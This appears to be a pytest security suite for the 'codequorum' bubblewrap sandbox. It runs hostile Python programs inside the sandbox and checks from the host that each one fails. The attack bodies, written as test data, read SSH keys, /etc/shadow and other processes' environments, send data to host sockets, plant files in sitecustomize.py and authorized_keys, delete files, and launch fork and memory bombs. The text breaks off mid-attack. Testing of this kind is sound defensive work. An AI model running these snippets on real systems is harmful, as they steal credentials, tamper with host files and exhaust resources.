"""Hostile programs through the REAL sandbox, the way generated code runs, next to a real server.

Each attack is one test. It runs either as a candidate through `python_runner.run_suite` (one
sandbox start, the harness forks the candidate: exactly the path of generated code) or as a
program through `Sandbox().run`. Each test then checks from the host that the attack's effect
did not happen (the listener got no connection, the canary file is intact, no process survived,
the secret is in no output...) and that the server under attack (`conftest.server`, a real
`codequorum serve --tcp` with a secret in its environment and on its command line) is alive and
still answers initialize and `codequorum.stats`.

These tests fail (never skip) when bubblewrap is missing or cannot create a sandbox.
"""

from __future__ import annotations

import asyncio
import ctypes
import dataclasses
import os
import shutil
import socket
import stat
import subprocess
import tempfile
import textwrap
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from string import Template

import pytest

from codequorum.sandbox import Sandbox, SandboxError, SandboxLimits, SandboxResult
from codequorum.testing import python_tests
from codequorum.testing.python_runner import CandidateRun, run_suite
from tests.e2e.test_sandbox_bwrap import processes_with, real_bubblewrap
from tests.security.conftest import SERVER_SECRET, RunningServer

pytestmark = pytest.mark.e2e

__all__ = ["real_bubblewrap"]  # the module-scoped, autouse "bubblewrap must work" fixture

PY = "/usr/bin/python3"
KEYCTL_SYSCALLS = {"add_key": 248, "keyctl": 250}  # x86_64
HOST_SECRET = f"cq-host-secret-{uuid.uuid4().hex}"
FILE_SECRET = f"cq-file-secret-{uuid.uuid4().hex}"
KEY_SECRET = f"cq-key-secret-{uuid.uuid4().hex}"
SUITE = python_tests.TestSuite(setup="", cases=(python_tests.TestCase("test_nothing", "exec", "assert True"),))
FAST = SandboxLimits(timeout_s=10, cpu_s=5, memory_mb=256, max_processes=32, tmp_size_mb=8,
                     file_size_mb=4, work_size_mb=16, max_output_bytes=10_000)


@pytest.fixture(scope="module", autouse=True)
def secret_in_the_host_environment() -> Iterator[None]:
    """The process that starts the sandbox (this one) holds a secret in its environment."""
    os.environ["CODEQUORUM_HOST_SECRET"] = HOST_SECRET
    yield
    del os.environ["CODEQUORUM_HOST_SECRET"]


@dataclass
class Scene:
    """What the attacks aim at, all on the host, fresh for every test."""

    root: Path
    home: Path  # a user's home: secret files, ~/.ssh/id_rsa (world-readable, so only mounts protect it)
    private: Path  # a root-only (0700) directory holding a root-only secret, bound read-only into the sandbox
    canary_dir: Path  # world-writable directory with a world-writable canary file
    workdir: Path  # a work dir handed to the sandbox, kept after the run
    marker: str = field(default_factory=lambda: f"cq-marker-{uuid.uuid4().hex}")
    tag: str = field(default_factory=lambda: f"cq{uuid.uuid4().hex[:12]}")  # a process name (comm)
    tcp: socket.socket = field(default_factory=socket.socket)
    udp: socket.socket = field(default_factory=lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
    abstract: socket.socket = field(default_factory=lambda: socket.socket(socket.AF_UNIX))

    @property
    def canary(self) -> Path:
        return self.canary_dir / "canary.txt"

    def fields(self, server: RunningServer) -> dict[str, object]:
        return {
            "home": str(self.home), "private": str(self.private), "canary": str(self.canary),
            "canary_dir": str(self.canary_dir), "marker": self.marker,
            "tcp_port": self.tcp.getsockname()[1], "udp_port": self.udp.getsockname()[1],
            "abstract": self.abstract.getsockname()[1:].decode(), "host_ips": host_addresses(),
            "server_pid": server.pid, "server_port": server.port, "test_pid": os.getpid(),
            "test_pgid": os.getpgid(0), "key_secret": KEY_SECRET, "tag": self.tag,
        }


@pytest.fixture
def scene() -> Iterator[Scene]:
    root = Path(tempfile.mkdtemp(prefix="cq-attack-"))
    root.chmod(0o755)
    home, private, canary_dir, workdir = (root / n for n in ("home", "private", "canary", "work"))
    for directory, mode in ((home, 0o755), (home / ".ssh", 0o755), (private, 0o700),
                            (canary_dir, 0o777), (workdir, 0o755)):
        directory.mkdir()
        directory.chmod(mode)
    for path, mode in ((home / f"secret-{FILE_SECRET}.txt", 0o644), (home / ".ssh/id_rsa", 0o644),
                       (private / "secret.txt", 0o600), (canary_dir / "canary.txt", 0o666)):
        path.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n" + FILE_SECRET + "\n")
        path.chmod(mode)
    scene = Scene(root, home, private, canary_dir, workdir)
    scene.tcp.bind(("0.0.0.0", 0))
    scene.tcp.listen()
    scene.udp.bind(("0.0.0.0", 0))
    scene.abstract.bind(f"\0cq-attack-{uuid.uuid4().hex}")
    scene.abstract.listen()
    for sock in (scene.tcp, scene.udp, scene.abstract):
        sock.setblocking(False)
    yield scene
    for sock in (scene.tcp, scene.udp, scene.abstract):
        sock.close()
    shutil.rmtree(root, ignore_errors=True)


def host_addresses() -> list[str]:
    """Every IPv4 address of this machine (loopback and the rest)."""
    addresses = {"127.0.0.1"}
    try:
        addresses |= {info[4][0] for info in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET)}
    except OSError:
        pass
    return sorted(addresses)


# --- running an attack ---------------------------------------------------------------------


@dataclass
class Outcome:
    text: str  # everything the attack could send back: stdout + stderr, or the harness's errors
    seconds: float
    result: SandboxResult | None = None
    runs: list[CandidateRun] | None = None


@dataclass(frozen=True)
class Attack:
    id: str
    code: str  # a string.Template over Scene.fields
    check: Callable[[Outcome, Scene, RunningServer], None]
    via: str = "sandbox"  # "sandbox": Sandbox().run; "suite": a candidate through run_suite
    limits: SandboxLimits = FAST
    workdir: bool = False  # run in the scene's work dir (kept) rather than a fresh one
    readonly_private: bool = False  # bind the root-only directory read-only into the sandbox


def add_host_key(description: str, secret: str) -> int:
    """A key in this process's session keyring, which the processes it starts inherit."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(KEYCTL_SYSCALLS["add_key"], b"user", description.encode(), secret.encode(),
                        len(secret), ctypes.c_int(-3))


def unlink_host_key(key: int) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall(KEYCTL_SYSCALLS["keyctl"], 9, ctypes.c_long(key), ctypes.c_int(-3))  # KEYCTL_UNLINK


def launch(attack: Attack, scene: Scene, server: RunningServer) -> Outcome:
    code = Template(textwrap.dedent(attack.code)).substitute(scene.fields(server))
    if attack.via == "suite":  # the harness runs candidates from job.json: name the process instead
        code = NAME_ITSELF.format(tag=scene.tag) + code
    started = time.monotonic()
    if attack.via == "suite":
        runs = asyncio.run(run_suite([code], SUITE, attack.limits, per_candidate_s=1.0))
        text = "\n".join(run.error or "" for run in runs)
        return Outcome(text, time.monotonic() - started, runs=runs)
    sandbox = Sandbox(attack.limits, readonly_paths=[scene.private] if attack.readonly_private else ())
    result = sandbox.run([PY, "-I", "attack.py", scene.marker], files={"attack.py": code},
                         workdir=scene.workdir if attack.workdir else None)
    return Outcome(result.stdout + result.stderr, time.monotonic() - started, result=result)


def survivors(scene: Scene) -> list[int]:
    """Host processes that carry the attack's marker (argv) or its tag (process name)."""
    found = set(processes_with(scene.marker))
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and (entry / "comm").read_text().strip() == scene.tag:
                found.add(int(entry.name))
        except OSError:
            continue
    return sorted(found)


def assert_no_survivor(scene: Scene, within_s: float = 3.0) -> None:
    deadline = time.monotonic() + within_s
    while survivors(scene) and time.monotonic() < deadline:
        time.sleep(0.02)
    assert survivors(scene) == [], "sandboxed processes survived the run"


NAME_ITSELF = "import ctypes as _c; _c.CDLL(None).prctl(15, b'{tag}', 0, 0, 0)  # PR_SET_NAME\n"


def no_secret_in(text: str) -> None:
    for secret in (SERVER_SECRET, HOST_SECRET, FILE_SECRET, KEY_SECRET):
        assert secret not in text, f"a secret leaked into the sandbox's output: {text[-2000:]}"


def canary_intact(scene: Scene) -> None:
    assert scene.canary.read_text().endswith(FILE_SECRET + "\n")
    assert sorted(p.name for p in scene.canary_dir.iterdir()) == ["canary.txt"]
    assert stat.S_IMODE(scene.canary.stat().st_mode) == 0o666 and scene.canary.stat().st_uid == os.getuid()


# --- network -------------------------------------------------------------------------------


def no_tcp_connection(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    with pytest.raises(BlockingIOError):
        scene.tcp.accept()
    assert "CONNECTED" not in outcome.text and "refused" in outcome.text


def assert_udp_listener_heard_nothing(scene: Scene) -> None:
    time.sleep(0.2)
    with pytest.raises(BlockingIOError):
        scene.udp.recvfrom(4096)


def no_datagram(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    assert_udp_listener_heard_nothing(scene)
    assert "SENT" not in outcome.text, outcome.text


def no_abstract_connection(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    with pytest.raises(BlockingIOError):
        scene.abstract.accept()
    assert "CONNECTED" not in outcome.text and "ConnectionRefusedError" in outcome.text


def nothing_resolved(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    assert_udp_listener_heard_nothing(scene)  # the fake "DNS server" on the host heard nothing either
    assert "RESOLVED" not in outcome.text and outcome.text.count("failed") == 4, outcome.text


def all_refused(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    assert "OPENED" not in outcome.text and "ALLOWED" not in outcome.text, outcome.text
    assert outcome.text.count("refused") >= 2, outcome.text
    no_secret_in(outcome.text)


# --- secrets -------------------------------------------------------------------------------


def secrets_stay_home(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    no_secret_in(outcome.text)
    assert "READ" not in outcome.text, outcome.text


def nothing_from_the_server_process(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    # The host can read them, and they do hold the secret: the sandbox got neither.
    assert SERVER_SECRET.encode() in Path(f"/proc/{server.pid}/environ").read_bytes()
    assert SERVER_SECRET.encode() in Path(f"/proc/{server.pid}/cmdline").read_bytes()
    assert os.environ["CODEQUORUM_HOST_SECRET"] == HOST_SECRET
    no_secret_in(outcome.text)
    assert "processes" in outcome.text, outcome.text  # the attack did run


def no_shadow(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    for path in ("/etc/shadow", "/etc/gshadow"):
        if os.path.exists(path):
            hashes = [line for line in Path(path).read_text().splitlines() if line.split(":")[1:2] != [""]]
            assert not any(line in outcome.text for line in hashes)
    assert "READ" not in outcome.text, outcome.text


# --- files ---------------------------------------------------------------------------------


def host_files_unchanged(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    canary_intact(scene)
    assert sorted(p.name for p in scene.home.iterdir()) == [".ssh", f"secret-{FILE_SECRET}.txt"]
    sitecustomize = Path("/usr/lib/python3/dist-packages/sitecustomize.py")
    assert not sitecustomize.exists() or "pwned" not in sitecustomize.read_text()
    for path in ("/etc/cq-pwned", "/usr/cq-pwned", "/root/cq-pwned", "/cq-pwned", "/var/tmp/cq-pwned",
                 f"/tmp/cq-pwned-{scene.marker}", f"/dev/shm/cq-pwned-{scene.marker}"):
        assert not os.path.exists(path), path
    assert "WROTE" not in outcome.text and "DELETED" not in outcome.text, outcome.text


def symlinks_lead_nowhere(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    no_shadow(outcome, scene, server)
    canary_intact(scene)
    no_secret_in(outcome.text)
    work_dir_untouched(outcome, scene, server)  # the links were made in memory, not on the host
    # The same links in a work dir from an untrusted repository: the host must not write through
    # them, and the sandbox's copy of the dir must not follow them.
    plant_links(scene)
    result = Sandbox(FAST).run([PY, "-c", "print(open('canary').read())"], workdir=scene.workdir)
    assert FILE_SECRET not in result.stdout, result
    for name in ("canary", "dir/planted.txt", "shadow"):
        with pytest.raises(SandboxError, match="symbolic link"):
            Sandbox(FAST).run([PY, "-c", "pass"], workdir=scene.workdir, files={name: "overwritten"})
    # A run reusing the work dir hands it to uid 65534 without following the links either.
    Sandbox(FAST).run([PY, "-c", "pass"], workdir=scene.workdir)
    canary_intact(scene)
    if os.path.exists("/etc/shadow"):
        assert os.stat("/etc/shadow").st_uid == 0


def no_host_inode_in_workdir(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    canary_intact(scene)
    host_inodes = {(os.stat(p).st_dev, os.stat(p).st_ino) for p in (scene.canary, "/etc/passwd")}
    for path in scene.workdir.rglob("*"):
        info = path.lstat()
        assert (info.st_dev, info.st_ino) not in host_inodes, path
    assert "LINKED" not in outcome.text, outcome.text


def memory_dirs_private_and_bounded(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    host_files_unchanged(outcome, scene, server)
    assert not any(scene.marker in name for name in os.listdir("/dev/shm"))
    assert not any(scene.marker in name for name in os.listdir(tempfile.gettempdir()))
    written = dict(line.split() for line in outcome.text.splitlines() if line.startswith("/"))
    assert written == {"/dev/shm": "8", "/tmp": "8"}, outcome.text  # MiB: tmp_size_mb, then ENOSPC


def plant_links(scene: Scene) -> None:
    (scene.workdir / "shadow").symlink_to("/etc/shadow")
    (scene.workdir / "canary").symlink_to(scene.canary)
    (scene.workdir / "dir").symlink_to(scene.canary_dir)


def work_dir_untouched(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    """The host work dir holds only what the host put there: writes stay in the sandbox's memory."""
    assert sorted(p.name for p in scene.workdir.iterdir()) == ["attack.py"]


def big_file_capped(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    work_dir_untouched(outcome, scene, server)
    assert outcome.result is not None and outcome.result.killed_by in ("SIGXFSZ", None)
    assert "File too large" in outcome.text or outcome.result.killed_by, outcome.text  # file_size_mb


def work_dir_total_capped(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    work_dir_untouched(outcome, scene, server)
    written = [line for line in outcome.text.splitlines() if line.startswith("part")]
    assert len(written) * 3 <= FAST.work_size_mb, outcome.text  # MiB: work_size_mb, then ENOSPC
    assert "ENOSPC" in outcome.text, outcome.text


# --- processes -----------------------------------------------------------------------------


def bomb_defused(bound_s: float) -> Callable[[Outcome, Scene, RunningServer], None]:
    def check(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
        assert outcome.seconds < bound_s, outcome.seconds
        assert_no_survivor(scene)
        assert subprocess.run(["true"], check=False).returncode == 0  # the host can still fork
        assert outcome.runs is not None and outcome.runs[0].passed == 0
    return check


def candidate_error(*words: str) -> Callable[[Outcome, Scene, RunningServer], None]:
    def check(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
        assert outcome.seconds < 8, outcome.seconds
        assert outcome.runs is not None and outcome.runs[0].passed == 0
        assert any(word in outcome.text for word in words), outcome.text
        assert_no_survivor(scene)
    return check


def killed_by_the_cpu_limit(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    assert outcome.result is not None
    assert (outcome.result.killed_by, outcome.result.timed_out) == ("SIGXCPU", False), outcome.result
    assert outcome.seconds < 6  # 1 s of CPU, shared by 4 threads; the wall clock (10 s) never came
    assert_no_survivor(scene)


def no_survivor(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    assert "FORKED" in outcome.text, outcome.text
    assert_no_survivor(scene)
    time.sleep(0.6)  # the survivor would have started again by now
    assert survivors(scene) == []


def host_processes_untouched(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    assert server.process.poll() is None  # (and this test process is evidently alive)
    assert "KILLED" not in outcome.text, outcome.text
    assert outcome.text.count("ProcessLookupError") == 3, outcome.text  # server, test, host group


def harness_died_alone(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    assert server.process.poll() is None
    assert outcome.runs is not None and "harness did not report" in outcome.text
    assert_no_survivor(scene)


def not_traced(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    status = Path(f"/proc/{server.pid}/status").read_text()
    assert "TracerPid:\t0" in status
    assert "ATTACHED" not in outcome.text and "READ" not in outcome.text, outcome.text
    no_secret_in(outcome.text)


# --- privileges ----------------------------------------------------------------------------


def still_nobody(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    expected = 65534 if os.geteuid() == 0 else os.getuid()
    assert f"uid {expected} {expected}" in outcome.text, outcome.text
    assert "ROOT" not in outcome.text
    secrets_stay_home(outcome, scene, server)  # the root-only secret (bound read-only) stayed unread


def no_new_namespace(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    assert "ALLOWED" not in outcome.text and "MOUNTED" not in outcome.text, outcome.text
    host_files_unchanged(outcome, scene, server)
    no_secret_in(outcome.text)


def still_in_the_sandbox_root(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    assert "ESCAPED" not in outcome.text, outcome.text
    root = ['.codequorum-seed', 'bin', 'dev', 'etc', 'lib', 'lib64', 'proc', 'sandbox', 'sbin', 'tmp', 'usr']
    assert f"root {root}" in outcome.text.replace(", 'lib32'", "").replace(", 'libx32'", ""), outcome.text


def key_stays_in_its_run(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    # The next sandbox (same uid 65534 outside) searches every keyring it has for the key, and
    # tries to read every key it can list. (The *description* of a dead run's key stays listed in
    # /proc/keys for the same uid until the kernel collects it, about 2 s: see docs/security.md.)
    probe = Sandbox(FAST).run([PY, "-c", textwrap.dedent(f"""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        for ring in (-1, -2, -3, -4, -5):  # thread, process, session, user, user-session keyrings
            print('found' if libc.syscall(250, 10, ring, b'user', b'{scene.marker}', 0) > 0 else 'absent')
        for line in open('/proc/keys'):
            buffer = ctypes.create_string_buffer(4096)
            if libc.syscall(250, 11, ctypes.c_long(int(line.split()[0], 16)), buffer, 4096) > 0:
                print('READ', buffer.raw)
    """)])
    assert probe.stdout.startswith("absent\n" * 5), probe.stdout
    assert KEY_SECRET not in probe.stdout, probe.stdout  # listed or not, never readable
    assert scene.marker not in Path("/proc/keys").read_text()  # nothing reached the host's keyrings
    assert "added" in outcome.text  # the keys were created inside their own run


def no_module_loaded(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    assert "LOADED" not in outcome.text and "WROTE" not in outcome.text, outcome.text
    if os.path.exists("/proc/modules"):
        assert scene.marker not in Path("/proc/modules").read_text()


def limits_held(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    assert "RAISED" not in outcome.text and "ALLOCATED" not in outcome.text, outcome.text
    assert "MemoryError" in outcome.text, outcome.text


def no_privileged_file(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    work_dir_untouched(outcome, scene, server)
    for path in scene.workdir.rglob("*"):
        info = path.lstat()
        assert not (info.st_mode & stat.S_ISUID and info.st_uid == 0), path
        assert not (info.st_mode & stat.S_ISGID and info.st_gid == 0), path
        assert not (stat.S_ISBLK(info.st_mode) or stat.S_ISCHR(info.st_mode)), path
    assert "CHOWNED" not in outcome.text and "MKNOD" not in outcome.text, outcome.text


def host_name_and_clock_unchanged(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    assert socket.gethostname() != scene.marker[:60]
    assert abs(time.time() - time.clock_gettime(time.CLOCK_REALTIME)) < 5
    assert time.time() > 1_700_000_000  # not set back to 1970 by the attack
    assert "SET" not in outcome.text, outcome.text


# --- output --------------------------------------------------------------------------------


def output_capped(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    result = outcome.result
    assert result is not None and result.stdout_truncated and result.stderr_truncated
    assert len(result.stdout.encode()) <= FAST.max_output_bytes >= len(result.stderr.encode())
    assert outcome.seconds < 15


def harness_output_capped(outcome: Outcome, scene: Scene, server: RunningServer) -> None:
    assert outcome.runs is not None and outcome.runs[0].passed == 0
    assert len(outcome.text) < 1000 and "load: " in outcome.text, outcome.text[:500]
    assert outcome.seconds < 10


ATTACKS = [
    # --- network out
    Attack("tcp-connect-to-a-host-listener-and-the-server", """
        import socket
        for host in $host_ips + ['localhost', '::1']:
            for port in ($tcp_port, $server_port):
                try:
                    socket.create_connection((host, port), timeout=2).sendall(b'hello')
                    print('CONNECTED', host, port)
                except OSError as error:
                    print('refused', host, port, type(error).__name__)
    """, no_tcp_connection),
    Attack("dns-lookup", """
        import socket
        for name in ('example.com', 'pypi.org'):
            try:
                print('RESOLVED', socket.getaddrinfo(name, 443))
            except OSError as error:
                print(name, 'failed', error)
        for resolver in [('127.0.0.1', $udp_port), ('127.0.0.53', 53)]:
            query = bytes.fromhex('abcd01000001000000000000076578616d706c6503636f6d0000010001')
            try:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
                    udp.settimeout(1)
                    udp.sendto(query, resolver)
                    print('RESOLVED', udp.recvfrom(512))
            except OSError as error:
                print(resolver, 'failed', error)
    """, nothing_resolved),
    Attack("udp-send-to-a-host-socket", """
        import socket
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            for host in $host_ips + ['255.255.255.255']:
                try:
                    udp.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                    udp.sendto(b'exfiltrated', (host, $udp_port))
                    print('sent locally (loopback of its own namespace)', host)
                except OSError as error:
                    print('refused', host, error)
    """, no_datagram),
    Attack("abstract-unix-socket-to-a-host-listener", """
        import socket
        try:
            socket.socket(socket.AF_UNIX).connect('\\0$abstract')
            print('CONNECTED')
        except OSError as error:
            print(type(error).__name__)
    """, no_abstract_connection),
    Attack("raw-packet-and-netlink-sockets", """
        import socket
        for args in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
                     (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
                     (socket.AF_PACKET, socket.SOCK_RAW, 0x0300)]:
            try:
                socket.socket(*args)
                print('OPENED', args)
            except OSError as error:
                print('refused', args, error)
        import subprocess
        for command in (['ip', 'link', 'set', 'lo', 'down'], ['ip', 'addr', 'add', '10.9.9.9/24', 'dev', 'lo']):
            try:
                done = subprocess.run(command, capture_output=True, text=True)
                print('ALLOWED' if done.returncode == 0 else 'refused', command, done.stderr)
            except OSError as error:
                print('refused', command, error)
    """, all_refused),
    # --- reading secrets
    Attack("read-a-secret-file-in-the-users-home", """
        import os
        for path in [os.path.join('$home', name) for name in os.listdir('$home')] + ['$home/.ssh/id_rsa']:
            try:
                print('READ', open(path).read())
            except OSError as error:
                print(type(error).__name__, path)
        for top in ('$home', '/tmp', '/sandbox'):
            for directory, _, names in os.walk(top):
                for name in names:
                    try:
                        text = open(os.path.join(directory, name)).read()
                        if 'PRIVATE KEY' in text:
                            print('READ', text)
                    except OSError:
                        pass
    """, secrets_stay_home),
    Attack("read-ssh-private-keys", """
        import glob, os
        paths = ['/root/.ssh/id_rsa', '/root/.ssh/id_ed25519', os.path.expanduser('~/.ssh/id_rsa'),
                 '$home/.ssh/id_rsa', *glob.glob('/home/*/.ssh/*'), '/etc/ssh/ssh_host_rsa_key']
        for path in paths:
            try:
                print('READ', path, open(path).read())
            except OSError as error:
                print(type(error).__name__, path)
    """, secrets_stay_home),
    Attack("list-the-users-home-and-root", """
        import os
        for path in ('/root', '/home', '$home', os.path.expanduser('~'), '/var', '/run', '/mnt'):
            try:
                print(path, os.listdir(path))
            except OSError as error:
                print(path, type(error).__name__)
    """, secrets_stay_home),
    Attack("environment-variables-of-the-host", """
        import os
        print(dict(os.environ))
        for path in ('/proc/self/environ', '/proc/1/environ', '/proc/%d/environ' % os.getppid()):
            try:
                print(path, open(path, 'rb').read())
            except OSError as error:
                print(path, error)
        print('processes', os.listdir('/proc'))
    """, nothing_from_the_server_process),
    Attack("proc-environ-of-the-running-server", """
        import os
        for pid in [$server_pid, $test_pid] + [p for p in os.listdir('/proc') if p.isdigit()]:
            try:
                print(pid, open('/proc/%s/environ' % pid, 'rb').read())
            except OSError as error:
                print(pid, type(error).__name__)
        print('processes', os.listdir('/proc'))
    """, nothing_from_the_server_process),
    Attack("proc-cmdline-of-the-running-server", """
        import os
        for pid in [$server_pid, $test_pid] + [p for p in os.listdir('/proc') if p.isdigit()]:
            for what in ('cmdline', 'status', 'maps', 'fd'):
                try:
                    path = '/proc/%s/%s' % (pid, what)
                    print(path, os.listdir(path) if what == 'fd' else open(path, 'rb').read()[:2000])
                except OSError as error:
                    print(pid, what, type(error).__name__)
        print('processes', os.listdir('/proc'))
    """, nothing_from_the_server_process),
    Attack("read-etc-shadow-and-sudoers", """
        for path in ('/etc/shadow', '/etc/gshadow', '/etc/sudoers', '/etc/shadow-', '/etc/ssh/sshd_config'):
            try:
                print('READ', path, open(path).read())
            except OSError as error:
                print(type(error).__name__, path)
    """, no_shadow),
    Attack("read-sys-proc-kcore-and-kernel-logs", """
        import glob
        paths = ['/proc/kcore', '/proc/kmsg', '/dev/kmsg', '/dev/mem', '/dev/port', '/dev/sda', '/dev/vda',
                 '/sys/kernel/notes', '/sys/fs/cgroup/cgroup.procs', '/sys/class/net', '/proc/self/mountinfo']
        for path in paths:
            try:
                data = open(path, 'rb').read(64)
                print('OPENED' if path != '/proc/self/mountinfo' else 'mountinfo', path, len(data))
            except OSError as error:
                print(type(error).__name__, path)
        for path in ('/proc/sysrq-trigger', '/proc/sys/kernel/hostname', '/proc/sys/vm/drop_caches'):
            try:
                open(path, 'w').write('h')
                print('WROTE', path)
            except OSError as error:
                print(type(error).__name__, path)
        print('sys:', glob.glob('/sys/*'))
    """, lambda o, s, v: (no_module_loaded(o, s, v), all_refused_quietly(o))),
    # --- files on the host
    Attack("write-outside-the-work-dir", """
        import os
        targets = ['$canary_dir/new.txt', '$home/.bashrc', '$home/.ssh/authorized_keys', '/etc/cq-pwned',
                   '/usr/cq-pwned', '/root/cq-pwned', '/cq-pwned', '/var/tmp/cq-pwned', '/proc/cq-pwned',
                   '/dev/cq-pwned', '/usr/lib/python3/dist-packages/sitecustomize.py']
        for path in targets:
            try:
                with open(path, 'w') as handle:
                    handle.write('pwned')
                print('WROTE', path)
            except OSError as error:
                print(type(error).__name__, path)
        for path in ('/tmp/cq-pwned-$marker', '/dev/shm/cq-pwned-$marker'):
            open(path, 'w').write('private to the sandbox')
    """, host_files_unchanged),
    Attack("delete-host-files", """
        import os, shutil
        for action, path in [(os.remove, '$canary'), (shutil.rmtree, '$canary_dir'), (shutil.rmtree, '$home'),
                             (lambda p: os.truncate(p, 0), '$canary'), (lambda p: os.chmod(p, 0), '$canary'),
                             (os.rename, '$canary')]:
            try:
                action(path) if action is not os.rename else os.rename(path, path + '.moved')
                print('DELETED', path)
            except OSError as error:
                print(type(error).__name__, path)
    """, host_files_unchanged),
    Attack("symlinks-in-the-work-dir-to-shadow-and-the-canary", """
        import os
        os.symlink('/etc/shadow', 'shadow')
        os.symlink('$canary', 'canary')
        os.symlink('$canary_dir', 'dir')
        for path in ('shadow', 'canary', 'dir/canary.txt'):
            try:
                print('READ', open(path).read())
            except OSError as error:
                print(type(error).__name__, path)
        for path in ('canary', 'dir/planted.txt'):
            try:
                open(path, 'w').write('through the link')
                print('WROTE', path)
            except OSError as error:
                print(type(error).__name__, path)
    """, lambda o, s, v: (symlinks_lead_nowhere(o, s, v), host_files_unchanged(o, s, v)), workdir=True),
    Attack("hard-links-to-host-files", """
        import os
        for source in ('$canary', '/etc/passwd', '/usr/bin/python3'):
            try:
                os.link(source, os.path.basename(source) + '.link')
                print('LINKED', source)
            except OSError as error:
                print(type(error).__name__, source)
    """, no_host_inode_in_workdir, workdir=True),
    Attack("fill-dev-shm-and-tmp", """
        import os
        for top in ('/dev/shm', '/tmp'):
            written = 0
            try:
                with open(os.path.join(top, 'cq-pwned-$marker'), 'wb') as handle:
                    for _ in range(64):
                        handle.write(b'x' * 1024 * 1024)
                        handle.flush()
                        written += 1
            except OSError:
                pass
            print(top, written)
    """, memory_dirs_private_and_bounded, limits=dataclasses.replace(FAST, file_size_mb=64)),
    Attack("one-huge-file-in-the-work-dir", """
        with open('big', 'wb') as handle:
            for _ in range(64):
                handle.write(b'x' * 1024 * 1024)
    """, big_file_capped, workdir=True),
    Attack("many-files-in-the-work-dir-fill-the-disk", """
        import errno
        for index in range(32):  # each below file_size_mb, 96 MiB in all
            try:
                with open('part%d' % index, 'wb') as handle:
                    handle.write(b'x' * (3 * 1024 * 1024))
                print('part%d' % index)
            except OSError as error:
                print(errno.errorcode[error.errno])
                break
    """, work_dir_total_capped, workdir=True),
    # --- processes and resources
    Attack("fork-bomb-in-a-candidate", """
        import os  # $marker
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """, bomb_defused(8), via="suite"),
    Attack("memory-bomb-in-a-candidate", """
        hoard = []  # $marker
        hoard.append(bytearray(8 * 1024 ** 3))
    """, candidate_error("MemoryError"), via="suite"),
    Attack("growing-memory-in-a-candidate", """
        hoard = []  # $marker
        while True:
            hoard.append(' ' * (16 * 1024 * 1024))
    """, candidate_error("MemoryError", "timeout"), via="suite"),
    Attack("infinite-loop-in-a-candidate", """
        while True:  # $marker
            pass
    """, candidate_error("timeout"), via="suite"),
    Attack("cpu-spin-in-threads", """
        import threading  # $marker
        def spin():
            while True:
                pass
        for _ in range(4):
            threading.Thread(target=spin).start()
    """, killed_by_the_cpu_limit, limits=SandboxLimits(timeout_s=10, cpu_s=1, max_output_bytes=10_000)),
    Attack("daemon-grandchild-outlives-the-run", """
        import os, sys
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv('/usr/bin/python3', ['/usr/bin/python3', '-c',
                    'import time\\nwhile True:\\n    open("heartbeat", "a").write("beat\\\\n")\\n'
                    '    time.sleep(0.1)', '$marker'])
            os._exit(0)
        print('FORKED')
    """, no_survivor, workdir=True),
    Attack("sleeping-child-of-a-candidate-outlives-it", """
        import os
        if os.fork() == 0:
            os.setsid()
            os.execv('/usr/bin/sleep', ['/usr/bin/sleep', '600', '$marker'])
        def test_nothing():
            pass
    """, lambda o, s, v: assert_no_survivor(s), via="suite"),
    Attack("kill-the-server-this-process-and-their-group", """
        import os, signal
        for what, kill, target in [('server', os.kill, $server_pid), ('test', os.kill, $test_pid),
                                   ('group', os.killpg, $test_pgid)]:
            try:
                kill(target, signal.SIGKILL)
                print('KILLED', what)
            except OSError as error:
                print(type(error).__name__, what)
        for pid in (os.getppid(), 1):
            try:
                os.kill(pid, signal.SIGKILL)  # inside: the sandbox's own init, so the run just ends
            except OSError as error:
                print(type(error).__name__, pid)
    """, host_processes_untouched),
    Attack("kill-every-process-it-can", """
        import os, signal  # $marker
